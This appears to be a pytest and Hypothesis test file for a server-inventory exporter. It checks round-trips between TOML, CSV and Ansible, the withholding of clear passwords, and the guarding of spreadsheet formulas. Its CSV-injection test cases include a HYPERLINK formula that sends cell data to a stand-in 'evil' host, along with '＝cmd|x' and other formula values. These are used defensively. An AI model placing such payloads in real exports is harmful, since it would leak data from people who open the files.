"""An exported inventory reads back as the same servers, in every format."""

from __future__ import annotations

import re
import string
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from volact.inventory import load_inventory
from volact.inventory.export import FORMATS, export
from volact.model.finding import Acceptance
from volact.model.profile import Image
from volact.model.server import Address, Credential, Scheme, Server, SshRoute, WinRm, WinRmAuth
from volact.model.spreadsheet import guarded, unguarded

ODD = Acceptance(finding="clock-skew", reason="a;b")
_HERE = Address(scheme="ssh", host="10.0.0.5")
SUFFIX = {"toml": ".toml", "csv": ".csv", "ansible": ".yml"}

# Any text that can be a name, without the characters of patterns and blanks.
WORDS = st.text(
    st.characters(exclude_categories=["C", "Z"], exclude_characters="[]{}:"),
    min_size=1,
    max_size=12,
)
TAGS = st.text(string.ascii_letters + string.digits + "-_.äö服", min_size=1, max_size=8)
PATHS = st.text(string.ascii_letters + " _-.#\"'", min_size=1, max_size=8).map(
    lambda name: f"/keys/k{name.strip()}"
)
HOSTS = st.one_of(
    st.just("10.0.0.5"),
    st.just("2001:db8::1"),
    st.sampled_from(["fe80::1%12", "fe80::1%253"]),
    st.text(string.ascii_lowercase + "-", min_size=1, max_size=10).map(lambda t: f"h{t}.test"),
)
USERS = st.one_of(st.just(""), st.just("ACME\\ops"), st.just("ops@acme.test"), WORDS)


@st.composite
def credentials(draw: st.DrawFn) -> Credential:
    password: dict[str, object] = draw(
        st.sampled_from(
            [
                {},
                {"password_env": "PW"},
                {"password_file": "/secrets/pw file"},
                {"password_command": ("pass", "show", "it's; $HOME")},
                {"keyring": "volact = x"},
            ]
        )
    )
    return msgspec.convert(
        {
            "user": draw(USERS),
            "key_files": draw(st.lists(PATHS, max_size=2, unique=True)),
            "passphrase_env": draw(st.sampled_from(["", "KEY"])),
            **password,
        },
        Credential,
    )


@st.composite
def ways(draw: st.DrawFn) -> SshRoute:
    hop = Address(scheme="ssh", host="bastion", port=2222, user="ops")
    jump = draw(
        st.sampled_from([None, (), (hop,), (hop, Address(scheme="ssh", host="2001:db8::2"))])
    )
    return SshRoute(
        jump=jump,
        jump_key_files=tuple(draw(st.lists(PATHS, max_size=2, unique=True))),
        config=draw(st.sampled_from(["", None, "/etc/my ssh config"])),
    )


@st.composite
def fleet_servers(draw: st.DrawFn) -> Server:
    scheme: Scheme = draw(st.sampled_from(["ssh", "winrm", "winrms"]))
    port = draw(st.sampled_from([None, 22, 5985, 5986, 8443]))
    auth: WinRmAuth = draw(st.sampled_from(["negotiate", "ntlm", "kerberos"]))
    return Server(
        name=draw(WORDS),
        address=Address(scheme=scheme, host=draw(HOSTS), port=port),
        provider=draw(st.sampled_from(["", "tencent", "aws"])),
        credential=draw(credentials()),
        known_hosts=draw(st.sampled_from(["", "/known hosts"])),
        tags=tuple(draw(st.lists(TAGS, max_size=3, unique=True))),
        winrm=WinRm()
        if scheme == "ssh"
        else WinRm(
            auth=auth,
            verify=draw(st.booleans()),
            tls=draw(st.sampled_from([None, True, False])),
            kerberos_host=draw(st.sampled_from(["", "a.corp.example"])),
        ),
        ssh=draw(ways()) if scheme == "ssh" else SshRoute(),
    )


def tidy(server: Server, format_: str) -> Server:
    """Ansible has no order of groups, and HTTPS is always its scheme's affair."""
    if format_ != "ansible":
        return server
    address = server.address
    if address.scheme == "winrm" and server.winrm_tls:
        address = msgspec.structs.replace(address, scheme="winrms")
    return msgspec.structs.replace(server, address=address, tags=tuple(sorted(server.tags)))


@pytest.mark.parametrize("format_", FORMATS)
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(servers=st.lists(fleet_servers(), min_size=1, max_size=4, unique_by=lambda s: s.name))
def test_what_is_exported_reads_back(tmp_path: Path, format_: str, servers: list[Server]) -> None:
    exported = export(servers, {}, format_)
    assert exported.notes == ()
    path = tmp_path / f"out{SUFFIX[format_]}"
    path.write_text(exported.text, "utf-8", newline="")
    back = load_inventory(path).servers
    assert [tidy(s, format_) for s in back] == [tidy(s, format_) for s in servers]
    assert [s.winrm_tls for s in back] == [s.winrm_tls for s in servers]


TAT = Server(
    name="ins-1", address=Address(scheme="tat", host="ap-jakarta/ins-1abcdefg"), provider="tencent"
)
AS = Server(name="a", address=Address(scheme="ssh", host="h", user="ACME\\o p:s@x"))


@pytest.mark.parametrize("format_", FORMATS)
def test_addresses_of_every_kind_read_back(tmp_path: Path, format_: str) -> None:
    path = tmp_path / f"out{SUFFIX[format_]}"
    path.write_text(export([TAT, AS], {}, format_).text, "utf-8", newline="")
    tat, as_ = load_inventory(path).servers
    assert tat == TAT
    assert (as_.credential.user, as_.address.host) == ("ACME\\o p:s@x", "h")


IMAGES = {"img-1": Image(type="PRIVATE_IMAGE", source="EXTERNAL_IMPORT", license="BYOL")}


@pytest.mark.parametrize("format_", FORMATS)
def test_what_is_known_of_images_is_kept_or_said_to_be_left(tmp_path: Path, format_: str) -> None:
    exported = export([TAT], IMAGES, format_)
    path = tmp_path / f"out{SUFFIX[format_]}"
    path.write_text(exported.text, "utf-8", newline="")
    if format_ == "toml":
        assert load_inventory(path).images == IMAGES
    else:
        assert exported.notes == ("what is known of 1 image is exported to toml only",)


@pytest.mark.parametrize("format_", FORMATS)
def test_no_secret_is_exported(tmp_path: Path, format_: str) -> None:
    path = tmp_path / "in.csv"
    path.write_text("name,ip,password\na,10.0.0.5,pass-w0rd-mark\n")
    exported = export(load_inventory(path).servers, {}, format_)
    assert "pass-w0rd-mark" not in exported.text
    (note,) = exported.notes
    assert note.startswith("passwords in clear are not exported (1 server)")


@pytest.mark.parametrize(
    ("name", "tags", "cells"),
    [
        ("=1+1", (), "'=1+1,ssh://h"),
        ("＝cmd|x", (), "'＝cmd|x,ssh://h"),
        ("'=1", (), "''=1,ssh://h"),
        ("web", ("prod", '=HYPERLINK("http://evil/"&A1)'), "\"prod;'=HYPERLINK("),
        ("web", ("prod", '"=1"'), '"prod;\'""=1'),
        ("web", ("＋1", "'-1", "a"), "'＋1;''-1;a"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_compute_is_guarded(
    tmp_path: Path, name: str, tags: tuple[str, ...], cells: str
) -> None:
    server = Server(name=name, address=Address(scheme="ssh", host="h"), tags=tags)
    text = export([server], {}, "csv").text
    assert cells in text
    path = tmp_path / "out.csv"
    path.write_text(text, "utf-8", newline="")
    assert load_inventory(path).servers == (server,)


def test_a_tag_that_begins_with_a_blank_is_guarded() -> None:
    server = Server(name="web", address=_HERE, tags=(" =1+1",))
    assert "' =1+1" in export([server], {}, "csv").text


PARTS = st.lists(st.sampled_from([*"=+-@＝－;;'\" \t\r\na"]), max_size=10).map("".join)


@settings(max_examples=1000)
@given(text=PARTS)
def test_what_is_guarded_is_no_formula_and_reads_back(text: str) -> None:
    assert not re.search(r'(?:^|;)[\s"]*[=+@＝－-]|^[\t\r]', guarded(text))
    assert unguarded(guarded(text)) == text
    assert unguarded(guarded(text, whole=True), whole=True) == text
    assert not re.match(r'[\s"]*[=+@＝－-]|[\t\r]', guarded(text, whole=True))


@pytest.mark.parametrize(
    ("format_", "server"),
    [
        ("csv", Server(name="a", address=_HERE, tags=("two words",))),
        ("csv", Server(name="a", address=_HERE, tags=("a;b",))),
        ("csv", Server(name="a", address=_HERE, credential=Credential(key_files=("/a;b",)))),
        ("csv", Server(name="a", address=_HERE, ssh=SshRoute(jump_key_files=("/a ", "/b")))),
        ("csv", Server(name="a", address=_HERE, expect=(ODD,))),
        ("csv", Server(name=" a", address=_HERE)),
        ("csv", Server(name="a", address=_HERE, skip="No")),
        ("ansible", Server(name="a", address=_HERE, skip="on")),
        ("ansible", Server(name="a", address=_HERE, credential=Credential(user=" ops"))),
        ("ansible", Server(name="10.0.0.5:2222", address=_HERE)),
        ("ansible", Server(name="web[1:3]", address=_HERE)),
        ("ansible", Server(name="web[3:1]", address=_HERE)),
        ("ansible", Server(name="a", address=_HERE, credential=Credential(user="{{ user }}"))),
    ],
)
def test_what_would_be_read_back_otherwise_is_said(format_: str, server: Server) -> None:
    (note,) = export([server, Server(name="b", address=_HERE)], {}, format_).notes
    assert note.startswith("1 server is read back otherwise")
    assert export([server], {}, "toml").notes == ()


def test_the_zone_of_an_address_is_written_as_ansible_reads_it() -> None:
    server = Server(name="a", address=Address(scheme="ssh", host="fe80::1%eth0", port=22))
    assert 'ansible_host: "fe80::1%eth0"\n' in export([server], {}, "ansible").text


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("reason", ["no", "False", "0", "off", "yes", "it is old"])
def test_a_server_that_is_skipped_reads_back_as_one(
    tmp_path: Path, format_: str, reason: str
) -> None:
    path = tmp_path / f"out{SUFFIX[format_]}"
    server = Server(name="a", address=_HERE, skip=reason)
    path.write_text(export([server], {}, format_).text, "utf-8", newline="")
    (back,) = load_inventory(path).servers
    assert back.skip
    assert back.skip == reason or (format_ != "toml" and reason != "it is old")
